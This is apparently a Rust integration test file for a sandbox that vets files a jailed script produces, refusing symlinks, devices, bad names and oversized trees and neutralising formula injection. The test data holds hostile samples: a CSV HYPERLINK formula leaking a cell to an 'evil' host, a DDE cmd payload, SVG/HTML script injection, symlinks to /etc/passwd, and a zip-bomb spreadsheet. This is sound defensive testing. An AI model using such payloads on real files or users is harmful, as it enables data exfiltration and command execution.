//! Artifacts (issue 5): every case is made by a script inside the jail, and
//! the supervisor, outside it and after the tree is dead, must refuse what is
//! hostile, flag what is risky and describe what it accepts.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::Duration;

use jail::result::{Artifact, Change, Disposition, FlagKind, RejectReason, RunResult, Summary};
use jail_tests::*;

/// How the script's output dir reaches the host.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum OutputMode {
    /// The default: a size-capped tmpfs, mirrored to the host folder after
    /// the tree is dead (output.rs).
    Mirrored,
    /// `filesystem.output_size: "unlimited"`: the host folder itself is bound
    /// writable, so whatever the script makes is on the host as it made it.
    Bound,
}

/// Run with the default policy, in `mode`, with its `artifacts` section
/// changed by `rules` (and, bound, no file size limit either).
fn with_policy(sb: &mut Sandbox, mode: OutputMode, rules: serde_json::Value) {
    let text = std::fs::read_to_string(repo().join("policies/default.json")).unwrap();
    let mut policy: serde_json::Value = serde_json::from_str(&text).unwrap();
    policy.as_object_mut().unwrap().remove("rootfs");
    for (k, v) in rules.as_object().unwrap() {
        policy["artifacts"][k] = v.clone();
    }
    if mode == OutputMode::Bound {
        policy["filesystem"]["output_size"] = "unlimited".into();
        policy["limits"]["file_size"] = "unlimited".into();
    }
    let path = sb.dir.path().join("policy.json");
    std::fs::write(&path, serde_json::to_string(&policy).unwrap()).unwrap();
    sb.extra_args.extend(["--policy".to_string(), path.display().to_string()]);
}

fn with_rules(sb: &mut Sandbox, rules: serde_json::Value) {
    with_policy(sb, OutputMode::Mirrored, rules);
}

fn run_ok(sb: &Sandbox, source: &str) -> (RunResult, std::process::Output) {
    let (r, out) = sb.run(source);
    assert_eq!(r.status, Status::Ok, "{}\n{}", String::from_utf8_lossy(&out.stderr), document(&r));
    (r, out)
}

fn rejected(r: &RunResult) -> BTreeMap<String, RejectReason> {
    r.rejected_artifacts.iter().map(|x| (x.path.clone(), x.reason)).collect()
}

fn artifact<'a>(r: &'a RunResult, path: &str) -> &'a Artifact {
    r.artifacts
        .iter()
        .find(|a| a.path == path)
        .unwrap_or_else(|| panic!("no artifact {path} in the result:\n{}", document(r)))
}

fn flag_count(a: &Artifact, kind: FlagKind) -> u64 {
    a.flags.iter().filter(|f| f.kind == kind).map(|f| f.count).sum()
}

fn stage(r: &RunResult, name: &str) -> f64 {
    *r.timings.stages.get(name).unwrap_or_else(|| panic!("no stage {name}: {:?}", r.timings.stages))
}

/// A world-readable secret in a host folder the jail is not given.
struct Secret {
    _dir: tempfile::TempDir,
    path: PathBuf,
    canary: String,
}

fn plant_secret() -> Secret {
    let dir = tempfile::Builder::new().prefix("jail-secret-").tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let canary = format!("canary-artifact-secret-{}", std::process::id());
    let path = dir.path().join("secret.txt");
    std::fs::write(&path, format!("{canary}\n")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    Secret { _dir: dir, path, canary }
}

/// Python helpers, standard library only: a PNG with zlib and struct, and
/// minimal OOXML packages with zipfile.
const PY_FILES: &str = r#"
import os, struct, zipfile, zlib
from xml.sax.saxutils import escape

def png(w, h):
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * w for _ in range(h))
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))

NS_CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_SS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
NS_A = "http://schemas.openxmlformats.org/drawingml/2006/main"

def types(overrides):
    return (f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{NS_CT}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides) + "</Types>")

def rels(items):
    return (f'<?xml version="1.0"?><Relationships xmlns="{NS_REL}">'
            + "".join(f'<Relationship Id="{i}" Type="{NS_R}/{t}" Target="{target}"/>' for i, t, target in items)
            + "</Relationships>")

def write_xlsx(path, sheets, shared):
    """sheets: [(name, sheetData xml, dimension or None)]; shared: [str]."""
    ov = [("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")]
    ov += [(f"/xl/worksheets/sheet{i+1}.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml") for i in range(len(sheets))]
    wb = (f'<?xml version="1.0"?><workbook xmlns="{NS_SS}" xmlns:r="{NS_R}"><sheets>'
          + "".join(f'<sheet name="{escape(n)}" sheetId="{i+1}" r:id="rId{i+1}"/>' for i, (n, _, _) in enumerate(sheets))
          + "</sheets></workbook>")
    wbrels = [(f"rId{i+1}", "worksheet", f"worksheets/sheet{i+1}.xml") for i in range(len(sheets))]
    wbrels.append((f"rId{len(sheets)+1}", "sharedStrings", "sharedStrings.xml"))
    sst = (f'<?xml version="1.0"?><sst xmlns="{NS_SS}">'
           + "".join(f"<si><t>{escape(s)}</t></si>" for s in shared) + "</sst>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types(ov))
        z.writestr("_rels/.rels", rels([("rId1", "officeDocument", "xl/workbook.xml")]))
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", rels(wbrels))
        z.writestr("xl/sharedStrings.xml", sst)
        for i, (_, data, dim) in enumerate(sheets):
            d = f'<dimension ref="{dim}"/>' if dim else ""
            z.writestr(f"xl/worksheets/sheet{i+1}.xml",
                       f'<?xml version="1.0"?><worksheet xmlns="{NS_SS}">{d}<sheetData>{data}</sheetData></worksheet>')

def write_pptx(path, titles):
    """titles: one per slide in presentation order (None: no title). Slide
    files are numbered backwards so that only the slide list gives the order."""
    n = len(titles)
    ov = [("/ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")]
    ov += [(f"/ppt/slides/slide{i+1}.xml", "application/vnd.openxmlformats-officedocument.presentationml.slide+xml") for i in range(n)]
    pres = (f'<?xml version="1.0"?><p:presentation xmlns:p="{NS_P}" xmlns:r="{NS_R}"><p:sldIdLst>'
            + "".join(f'<p:sldId id="{256+i}" r:id="rId{i+1}"/>' for i in range(n)) + "</p:sldIdLst></p:presentation>")
    prels = [(f"rId{i+1}", "slide", f"slides/slide{n-i}.xml") for i in range(n)]
    def shape(ph, text):
        return (f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="s"/><p:cNvSpPr/><p:nvPr>{ph}</p:nvPr></p:nvSpPr>'
                f'<p:txBody><a:p><a:r><a:t>{escape(text)}</a:t></a:r></a:p></p:txBody></p:sp>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", types(ov))
        z.writestr("_rels/.rels", rels([("rId1", "officeDocument", "ppt/presentation.xml")]))
        z.writestr("ppt/presentation.xml", pres)
        z.writestr("ppt/_rels/presentation.xml.rels", rels(prels))
        for i, title in enumerate(titles):
            body = shape('<p:ph type="body" idx="1"/>', "body text")
            if title is not None:
                kind = "ctrTitle" if i == 0 else "title"
                body = shape(f'<p:ph type="{kind}"/>', title) + body
            z.writestr(f"ppt/slides/slide{n-i}.xml",
                       f'<?xml version="1.0"?><p:sld xmlns:a="{NS_A}" xmlns:p="{NS_P}"><p:cSld><p:spTree>{body}</p:spTree></p:cSld></p:sld>')
"#;

#[test]
fn symlink_to_a_host_secret_is_refused_and_its_content_never_appears() {
    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
        symlink_to_a_host_secret_case(mode);
    }
}

fn symlink_to_a_host_secret_case(mode: OutputMode) {
    let mut sb = Sandbox::new();
    with_policy(&mut sb, mode, serde_json::json!({}));
    let secret = plant_secret();
    // A hard link to the secret, left in the output dir before the run.
    std::fs::hard_link(&secret.path, sb.output.join("hard.txt")).unwrap();
    let host = secret.path.display().to_string();
    let host_dir = secret.path.parent().unwrap().display().to_string();
    let (r, out) = run_ok(
        &sb,
        &format!(
            r#"
import os
os.symlink({host:?}, "secret.txt")
os.symlink({host_dir:?}, "secrets")
os.makedirs("sub")
os.symlink({host:?}, "sub/report.csv")
os.symlink("../../../../../../../.." + {host:?}, "rel.txt")
open("ok.txt", "w").write("fine\n")
"#
        ),
    );
    let rej = rejected(&r);
    for link in ["secret.txt", "secrets", "sub/report.csv", "rel.txt"] {
        assert_eq!(rej.get(link), Some(&RejectReason::Symlink), "{mode:?} {link}: {:?}", r.rejected_artifacts);
    }
    assert_eq!(rej.get("hard.txt"), Some(&RejectReason::HardLink));
    let paths: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(paths, ["ok.txt"]);
    let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(!all.contains(&secret.canary), "{mode:?}: the secret leaked into the result");
}

#[test]
fn every_refused_kind_stays_out_of_a_bound_output_folder() {
    special_files_case(OutputMode::Bound);
}

#[test]
fn every_refused_kind_stays_in_the_jail_and_the_host_folder_gets_only_what_passed() {
    special_files_case(OutputMode::Mirrored);
}

/// Every entry under `dir`, as `/`-joined relative paths (raw names
/// escaped), never following a link.
fn host_entries(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).unwrap().flatten() {
            let p = e.path();
            let rel = jail::artifacts::escape_name(p.strip_prefix(base).unwrap().as_os_str().as_encoded_bytes());
            let m = std::fs::symlink_metadata(&p).unwrap();
            if m.is_dir() {
                out.push(format!("{rel}/"));
                walk(base, &p, out);
            } else {
                out.push(rel);
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

/// Host folders beside `output` holding what a bound run quarantined.
fn quarantines(output: &Path) -> Vec<PathBuf> {
    let name = output.file_name().unwrap().to_string_lossy().to_string();
    let mut q: Vec<PathBuf> = std::fs::read_dir(output.parent().unwrap())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(&format!("{name}.jail-rejected-")))
        .map(|e| e.path())
        .collect();
    q.sort();
    q
}

fn special_files_case(mode: OutputMode) {
    let mut sb = Sandbox::new();
    with_policy(&mut sb, mode, serde_json::json!({"max_file_bytes": 4096}));
    if is_root() {
        // A jail cannot make a device node (see `mknod` below); one left in
        // the output dir by the host must be refused all the same.
        nix::sys::stat::mknod(
            &sb.output.join("null.csv"),
            nix::sys::stat::SFlag::S_IFCHR,
            nix::sys::stat::Mode::from_bits_truncate(0o666),
            nix::sys::stat::makedev(1, 3),
        )
        .unwrap();
    } else {
        covered_elsewhere("the device-node sub-case needs root to mknod; the root half of `make test` runs it");
    }
    let (r, _) = run_ok(
        &sb,
        &format!(
            r#"
import json, os, socket, stat
os.mkfifo("pipe.csv")
s = socket.socket(socket.AF_UNIX); s.bind("sock.csv")
for name in ["..hidden.txt", "-rf.txt", "esc\x1b[2J.txt", "rtl\u202egnp.txt", "a\\b.txt", "n" * 200 + ".txt",
             "new\nline.txt", "zw\u200bsp.txt", "shy\u00adpng.txt", "tag\U000e0041.txt", "tool.exe", "noext", "suid.txt", "sgid.txt", "a.txt", "ok.csv"]:
    open(name, "w").write("a,b\n1,2\n")
os.close(os.open(b"\xff\xfe.txt", os.O_CREAT | os.O_WRONLY))
open("big.txt", "w").write("x" * 5000)
os.chmod("suid.txt", 0o4755)
os.chmod("sgid.txt", 0o2755)
os.link("a.txt", "b.txt")
os.symlink("ok.csv", "inside.csv")
os.symlink("/etc/passwd", "outside.txt")
os.symlink("/root", "rootdir")
os.makedirs("sub")
os.symlink("../ok.csv", "sub/up.csv")
open("sub/fine.txt", "w").write("fine\n")
{FORMULA}
try:
    os.mknod("dev.csv", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    made = "made"
except OSError as e:
    made = type(e).__name__
print(json.dumps({{"mknod": made}}))
"#,
            FORMULA = FORMULA_CSV
        ),
    );
    assert!(r.stdout.text.contains("PermissionError"), "{}", r.stdout.text);
    let rej = rejected(&r);
    let expect = [
        ("pipe.csv", RejectReason::Fifo),
        ("sock.csv", RejectReason::Socket),
        ("..hidden.txt", RejectReason::BadName),
        ("-rf.txt", RejectReason::BadName),
        ("esc\\x1b[2J.txt", RejectReason::BadName),
        ("rtl\\u{202e}gnp.txt", RejectReason::BadName),
        ("new\\nline.txt", RejectReason::BadName),
        ("zw\\u{200b}sp.txt", RejectReason::BadName),
        ("shy\\u{ad}png.txt", RejectReason::BadName),
        ("tag\\u{e0041}.txt", RejectReason::BadName),
        ("a\\\\b.txt", RejectReason::BadName),
        ("\\xff\\xfe.txt", RejectReason::BadName),
        ("tool.exe", RejectReason::ExtensionNotAllowed),
        ("noext", RejectReason::ExtensionNotAllowed),
        ("big.txt", RejectReason::TooLarge),
        ("suid.txt", RejectReason::SetId),
        ("sgid.txt", RejectReason::SetId),
        ("a.txt", RejectReason::HardLink),
        ("b.txt", RejectReason::HardLink),
        ("inside.csv", RejectReason::Symlink),
        ("outside.txt", RejectReason::Symlink),
        ("rootdir", RejectReason::Symlink),
        ("sub/up.csv", RejectReason::Symlink),
    ];
    for (path, reason) in expect {
        assert_eq!(rej.get(path), Some(&reason), "{mode:?} {path}: {:?}", r.rejected_artifacts);
    }
    assert_eq!(rej.get(&format!("{}.txt", "n".repeat(200))), Some(&RejectReason::NameTooLong));
    if is_root() {
        assert_eq!(rej.get("null.csv"), Some(&RejectReason::Device));
    }
    for x in &r.rejected_artifacts {
        assert!(!x.path.chars().any(|c| c.is_control() || c == '\u{202e}'), "unescaped path {:?}", x.path);
    }
    let paths: Vec<&str> = r.artifacts.iter().map(|a| a.path.as_str()).collect();
    assert_eq!(paths, ["clean.csv", "ok.csv", "report.csv", "sub/fine.txt", "t.tsv"]);
    // The host folder holds what passed and nothing else (and the device
    // the host itself left there, untouched).
    let mut expect_host: Vec<String> = paths.iter().map(|p| p.to_string()).collect();
    expect_host.push("sub/".into());
    if is_root() {
        expect_host.push("null.csv".into());
        assert_eq!(r.rejected_artifacts.iter().find(|x| x.path == "null.csv").unwrap().disposition, Disposition::LeftAsBefore);
    }
    expect_host.sort();
    assert_eq!(host_entries(&sb.output), expect_host, "{mode:?}: {:?}", r.rejected_artifacts);
    // The formula CSV arrived neutralised.
    let report = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
    assert_eq!(report, NEUTRALISED_REPORT);
    match mode {
        OutputMode::Mirrored => {
            assert_eq!(quarantines(&sb.output), Vec::<PathBuf>::new());
            for x in r.rejected_artifacts.iter().filter(|x| x.path != "null.csv") {
                assert_eq!(x.disposition, Disposition::NotDelivered, "{x:?}");
            }
        }
        OutputMode::Bound => {
            // Nothing was lost: each refused entry the script made is in the
            // quarantine folder the result names.
            let q = PathBuf::from(r.quarantine_dir.clone().expect("a quarantine folder"));
            assert_eq!(quarantines(&sb.output), vec![q.clone()]);
            for x in r.rejected_artifacts.iter().filter(|x| x.path != "null.csv") {
                assert_eq!(x.disposition, Disposition::Quarantined, "{x:?}");
                let moved = PathBuf::from(x.moved_to.clone().unwrap());
                assert!(moved.starts_with(&q) && std::fs::symlink_metadata(&moved).is_ok(), "{x:?}");
            }
            let big = r.rejected_artifacts.iter().find(|x| x.path == "big.txt").unwrap();
            assert_eq!(std::fs::read(big.moved_to.as_ref().unwrap()).unwrap().len(), 5000);
            let _ = std::process::Command::new("rm").arg("-rf").arg(&q).status();
        }
    }
}

#[test]
fn huge_deep_and_wide_trees_are_refused_in_bounded_time() {
    let mut sb = Sandbox::new();
    // A folder is refused after reading max_dir_entries + 1 names, however
    // many it has; a small cap keeps the script that fills it quick. Bound,
    // so that neither the output tmpfs nor RLIMIT_FSIZE stop the sparse file
    // before the walk sees it.
    with_policy(&mut sb, OutputMode::Bound, serde_json::json!({"max_dir_entries": 100}));
    let (r, out) = run_ok(
        &sb,
        r#"
import os
os.makedirs("wide")
for i in range(1000):
    open(f"wide/{i}.txt", "w").close()
with open("sparse.csv", "wb") as f:
    f.truncate(1 << 40)
os.mkdir("deep"); os.chdir("deep")
for i in range(4096):
    os.mkdir("d"); os.chdir("d")
"#,
    );
    let rej = rejected(&r);
    assert_eq!(rej.get("wide"), Some(&RejectReason::TooWide), "{:?}", r.rejected_artifacts);
    assert_eq!(rej.get("sparse.csv"), Some(&RejectReason::TooLarge));
    let deep_cut = format!("deep{}", "/d".repeat(15));
    assert_eq!(rej.get(&deep_cut), Some(&RejectReason::TooDeep), "{:?}", r.rejected_artifacts);
    assert!(r.artifacts.is_empty(), "{:?}", r.artifacts);
    // The refusals above show the caps held; the time is a sanity bound.
    let ms = stage(&r, "artifacts") - stage(&r, "artifacts_start");
    assert!(ms < 10_000.0, "collection took {ms} ms");
    assert!(out.stdout.len() < 64 << 10, "result is {} bytes", out.stdout.len());
    // Bound: what was refused left the folder for the quarantine beside it.
    let q = r.quarantine_dir.clone().expect("a quarantine folder");
    assert_eq!(
        host_entries(&sb.output),
        [
            "deep/",
            "deep/d/",
            "deep/d/d/",
            "deep/d/d/d/",
            "deep/d/d/d/d/",
            "deep/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/d/d/d/d/",
            "deep/d/d/d/d/d/d/d/d/d/d/d/d/d/d/"
        ]
    );
    // GNU rm walks a 4096-deep tree without running out of descriptors.
    let _ = std::process::Command::new("rm").arg("-rf").arg(sb.output.join("deep")).arg(&q).status();
}

#[test]
fn counts_and_sizes_past_the_policy_caps_are_refused() {
    let mut sb = Sandbox::new();
    with_rules(
        &mut sb,
        serde_json::json!({"max_entries": 300, "max_dir_entries": 300, "max_files": 20, "max_file_bytes": 1000, "max_total_bytes": 1500}),
    );
    let (r, _) = run_ok(
        &sb,
        r#"
import os
for d in range(4):
    os.makedirs(f"m{d}")
    for i in range(100):
        open(f"m{d}/{i:03}.txt", "w").write("x")
open("big.txt", "w").write("y" * 1001)
open("edge.txt", "w").write("y" * 1000)
open("t1.txt", "w").write("z" * 800)
"#,
    );
    let rej = rejected(&r);
    assert_eq!(rej.get("big.txt"), Some(&RejectReason::TooLarge), "{:?}", r.rejected_artifacts);
    assert_eq!(rej.get("t1.txt"), Some(&RejectReason::TotalTooLarge));
    assert_eq!(rej.get("m0/019.txt"), Some(&RejectReason::TooManyFiles));
    assert!(r.rejected_artifacts.iter().any(|x| x.reason == RejectReason::TooManyEntries));
    assert_eq!(r.rejected_artifacts.last().unwrap().reason, RejectReason::TooManyRejected);
    assert_eq!(
        r.artifacts.len(),
        20,
        "{:?}\n{:?}",
        r.artifacts.iter().map(|a| &a.path).collect::<Vec<_>>(),
        r.rejected_artifacts
    );
    assert_eq!(artifact(&r, "edge.txt").bytes, 1000);
    assert_eq!(artifact(&r, "m0/018.txt").bytes, 1);
}

/// report.csv of FORMULA_CSV as the host receives it by default.
const NEUTRALISED_REPORT: &str =
    "name,note,delta\r\nada,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",-3.5\r\nbob,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3\r\neve,+1,ok\r\n";

const FORMULA_CSV: &str = r#"
import csv, os
with open("report.csv", "w", newline="") as f:
    w = csv.writer(f)
    w.writerow(["name", "note", "delta"])
    w.writerow(["ada", '=HYPERLINK("http://evil/?"&A1,"x")', "-3.5"])
    w.writerow(["bob", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"])
    w.writerow(["eve", "+1", "ok"])
open("t.tsv", "w").write("a\tb\n1\t=1+1\n")
open("clean.csv", "w").write("a,b\n-1,2\n")
"#;

#[test]
fn formula_injected_csv_reaches_the_host_neutralised_by_default() {
    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
        let mut sb = Sandbox::new();
        with_policy(&mut sb, mode, serde_json::json!({}));
        let (r, _) = run_ok(&sb, FORMULA_CSV);
        let report = artifact(&r, "report.csv");
        // The flag describes what the script wrote...
        assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3, "{:?}", report.flags);
        let flag = report.flags.iter().find(|f| f.kind == FlagKind::FormulaInjection).unwrap();
        assert_eq!(flag.locations, ["row 2, column 2", "row 3, column 2", "row 3, column 3"]);
        assert!(!flag.detail.contains("HYPERLINK"), "flags never quote the cell");
        // ...and the host received the neutralised file, which `bytes` and
        // `sha256` describe; `neutralised` says what changed.
        let text = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
        assert_eq!(text, NEUTRALISED_REPORT, "{mode:?}");
        assert_eq!(report.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
        assert_eq!(report.bytes, text.len() as u64);
        let n = report.neutralised.as_ref().expect("neutralised");
        assert_eq!(n.cells, 3);
        assert_eq!(n.original_bytes + 3, text.len() as u64);
        assert_ne!(n.original_sha256, report.sha256.clone().unwrap());
        assert_eq!(std::fs::read_to_string(sb.output.join("t.tsv")).unwrap(), "a\tb\n1\t'=1+1\n");
        let clean = artifact(&r, "clean.csv");
        assert!(clean.flags.is_empty() && clean.neutralised.is_none());
        assert_eq!(std::fs::read_to_string(sb.output.join("clean.csv")).unwrap(), "a,b\n-1,2\n");
        assert_eq!(r.quarantine_dir, None, "{mode:?}: nothing was refused");
    }
}

#[test]
fn formula_cells_flag_delivers_the_file_as_the_script_wrote_it() {
    let mut sb = Sandbox::new();
    with_rules(&mut sb, serde_json::json!({"formula_cells": "flag"}));
    let (r, _) = run_ok(&sb, FORMULA_CSV);
    let report = artifact(&r, "report.csv");
    assert_eq!(flag_count(report, FlagKind::FormulaInjection), 3);
    assert_eq!(report.neutralised, None);
    let text = std::fs::read_to_string(sb.output.join("report.csv")).unwrap();
    assert!(text.contains(",\"=HYPERLINK("), "{text}");
    assert_eq!(report.sha256.as_deref(), Some(jail::digest::sha256_hex(text.as_bytes()).as_str()));
}

const XLSX_WITH_FORMULAS: &str = r#"
data = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2"><f>SUM(B1:B9)</f><v>3</v></c><c r="B2" t="inlineStr"><is><t>@cmd</t></is></c>'
        '<c r="C2" t="s"><v>2</v></c><c r="D2" t="s"><v>3</v></c></row>')
write_xlsx("book.xlsx", [("Data", data, "A1:D2")], ["name", '=WEBSERVICE("http://x")', "-2+3", "-4.5"])
write_xlsx("plain.xlsx", [("Data", '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "A1:A1")], ["name"])
"#;

#[test]
fn an_xlsx_with_formulas_is_refused_by_default_and_never_reaches_the_host() {
    for mode in [OutputMode::Mirrored, OutputMode::Bound] {
        let mut sb = Sandbox::new();
        with_policy(&mut sb, mode, serde_json::json!({}));
        let (r, _) = run_ok(&sb, &format!("{PY_FILES}{XLSX_WITH_FORMULAS}"));
        assert_eq!(rejected(&r).get("book.xlsx"), Some(&RejectReason::FormulaCells), "{:?}", r.rejected_artifacts);
        assert!(!sb.output.join("book.xlsx").exists(), "{mode:?}");
        assert!(artifact(&r, "plain.xlsx").flags.is_empty());
        assert!(sb.output.join("plain.xlsx").exists());
        if let Some(q) = &r.quarantine_dir {
            let _ = std::fs::remove_dir_all(q);
        }
    }
}

#[test]
fn xlsx_formulas_and_formula_strings_are_flagged() {
    let mut sb = Sandbox::new();
    with_rules(&mut sb, serde_json::json!({"formula_cells": "flag"}));
    let (r, _) = run_ok(&sb, &format!("{PY_FILES}{XLSX_WITH_FORMULAS}"));
    let book = artifact(&r, "book.xlsx");
    let flag = book
        .flags
        .iter()
        .find(|f| f.kind == FlagKind::FormulaInjection)
        .unwrap_or_else(|| panic!("{:?}", book.flags));
    assert_eq!(flag.count, 4, "{flag:?}");
    assert_eq!(flag.locations, ["Data!B1", "Data!A2", "Data!B2", "Data!C2"]);
}

#[test]
fn script_in_html_and_svg_is_flagged() {
    let sb = Sandbox::new();
    let (r, _) = run_ok(
        &sb,
        r#"
open("page.html", "w").write("<!doctype html><p>hi</p>\n<script>fetch('http://x')</script>")
open("icon.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"/>')
open("link.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>')
open("clean.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="5" height="5"/></svg>')
"#,
    );
    for (path, n) in [("page.html", 1), ("icon.svg", 1), ("link.svg", 1), ("clean.svg", 0)] {
        assert_eq!(flag_count(artifact(&r, path), FlagKind::Script), n, "{path}: {:?}", artifact(&r, path).flags);
    }
}

#[test]
fn summaries_describe_csv_png_pptx_xlsx_and_friends() {
    let sb = Sandbox::new();
    let (r, _) = run_ok(
        &sb,
        &format!(
            r#"{PY_FILES}
import json
open("scores.csv", "w").write("name,score\nada,3\nbob,4\n")
open("chart.png", "wb").write(png(7, 3))
open("looks.csv", "wb").write(png(2, 2))
write_pptx("deck.pptx", ["Quarterly anomalies", None, "Next steps"])
write_xlsx("book.xlsx", [
    ("Data", '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="4"><c r="C4"><v>1</v></c></row>', "A1:C4"),
    ("Notes & more", '<row r="2"><c r="B2"><v>2</v></c></row>', None),
], ["name"])
json.dump({{"b": 1, "a": [1, 2]}}, open("data.json", "w"))
open("notes.md", "w").write('# Title\nsecond line\nthird\n')
open("plot.svg", "w").write('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80px"/>')
"#
        ),
    );
    let csv = artifact(&r, "scores.csv");
    assert_eq!(csv.media_type.as_deref(), Some("text/csv"));
    assert_eq!(csv.summary, Some(Summary::Csv { rows: 3, columns: 2, header: vec!["name".into(), "score".into()] }));
    let png = artifact(&r, "chart.png");
    assert_eq!(png.media_type.as_deref(), Some("image/png"));
    assert_eq!(png.summary, Some(Summary::Image { width: 7, height: 3 }));
    // The type comes from the content, and the name's claim is flagged.
    let fake = artifact(&r, "looks.csv");
    assert_eq!(fake.media_type.as_deref(), Some("image/png"));
    assert_eq!(flag_count(fake, FlagKind::MediaTypeMismatch), 1);
    let deck = artifact(&r, "deck.pptx");
    assert_eq!(deck.media_type.as_deref(), Some("application/vnd.openxmlformats-officedocument.presentationml.presentation"));
    assert_eq!(
        deck.summary,
        Some(Summary::Pptx {
            slides: 3,
            titles: vec![Some("Quarterly anomalies".into()), None, Some("Next steps".into())],
            partial: false
        })
    );
    let book = artifact(&r, "book.xlsx");
    assert_eq!(book.media_type.as_deref(), Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"));
    let Some(Summary::Xlsx { sheets, partial: false }) = &book.summary else {
        panic!("{:?}", book.summary)
    };
    let sheets: Vec<_> = sheets.iter().map(|s| (s.name.as_str(), s.dimension.as_deref(), s.rows, s.columns)).collect();
    assert_eq!(sheets, [("Data", Some("A1:C4"), 4, 3), ("Notes & more", None, 2, 2)]);
    assert!(book.flags.is_empty(), "{:?}", book.flags);
    assert_eq!(
        artifact(&r, "data.json").summary,
        Some(Summary::Json {
            top_level: "object".into(),
            length: Some(2),
            keys: vec!["a".into(), "b".into()],
            partial: false
        })
    );
    assert_eq!(
        artifact(&r, "notes.md").summary,
        Some(Summary::Text {
            lines: 3,
            first_lines: vec!["# Title".into(), "second line".into(), "third".into()]
        })
    );
    assert_eq!(artifact(&r, "plot.svg").summary, Some(Summary::Svg { width: Some(120.0), height: Some(80.0) }));
    for a in &r.artifacts {
        assert_eq!(a.change, Change::Created);
        let bytes = std::fs::read(sb.output.join(&a.path)).unwrap();
        assert_eq!(a.bytes, bytes.len() as u64);
        assert_eq!(a.sha256.as_deref(), Some(jail::digest::sha256_hex(&bytes).as_str()), "{}", a.path);
    }
}

#[test]
fn a_zip_bomb_sheet_is_read_only_up_to_the_cap() {
    // Under "flag", a file the run's judging budget stopped is delivered
    // flagged instead of refused: a debug build on a slow host can spend
    // its 1 s of CPU on the capped part before the parse ends (seen in CI),
    // and this test is about the byte cap, whose line comes first either way.
    let mut sb = Sandbox::new();
    with_rules(&mut sb, serde_json::json!({"past_budget": "flag"}));
    let (r, _) = run_ok(
        &sb,
        &format!(
            r#"{PY_FILES}
row = '<row r="1"><c r="A1"><v>1</v></c></row>'
write_xlsx("bomb.xlsx", [("Big", row * 1_200_000, "A1:A1")], ["x"])
"#
        ),
    );
    let bomb = artifact(&r, "bomb.xlsx");
    let capped = bomb.flags.iter().find(|f| f.kind == FlagKind::IncompleteScan);
    assert!(capped.is_some_and(|f| f.detail.contains("larger than the jail reads")), "{:?}", bomb.flags);
    assert!(bomb.bytes < 1 << 20, "the test bomb should be small on disk: {}", bomb.bytes);
    // The flag above is what shows the cap held; the time is a sanity bound
    // loose enough for a debug build on a busy machine.
    let ms = stage(&r, "artifacts") - stage(&r, "artifacts_start");
    assert!(ms < 20_000.0, "collection took {ms} ms");
